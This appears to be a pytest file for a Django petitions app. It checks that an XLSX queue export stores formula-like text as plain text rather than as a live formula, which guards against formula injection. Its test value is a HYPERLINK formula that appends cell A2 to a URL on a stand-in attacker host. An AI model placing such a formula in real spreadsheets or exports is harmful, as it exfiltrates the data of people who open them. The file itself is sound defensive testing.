"""The queue export writes texts that look like formulas as plain text (formula injection)."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from sunshine.petitions.exports import queue_xlsx
from sunshine.petitions.tests.factories import file_case, make_world

pytestmark = pytest.mark.django_db


def test_queue_export_has_no_formula():
    world = make_world()
    world.school.name = '=HYPERLINK("http://evil.example/?"&A2,"查看")'
    world.school.save()
    petition = file_case(world).petition
    petition.assigned_to = world.school
    petition.save(update_fields=["assigned_to"])
    sheet = load_workbook(BytesIO(queue_xlsx([petition]))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert world.school.name in texts  # kept exactly, as text
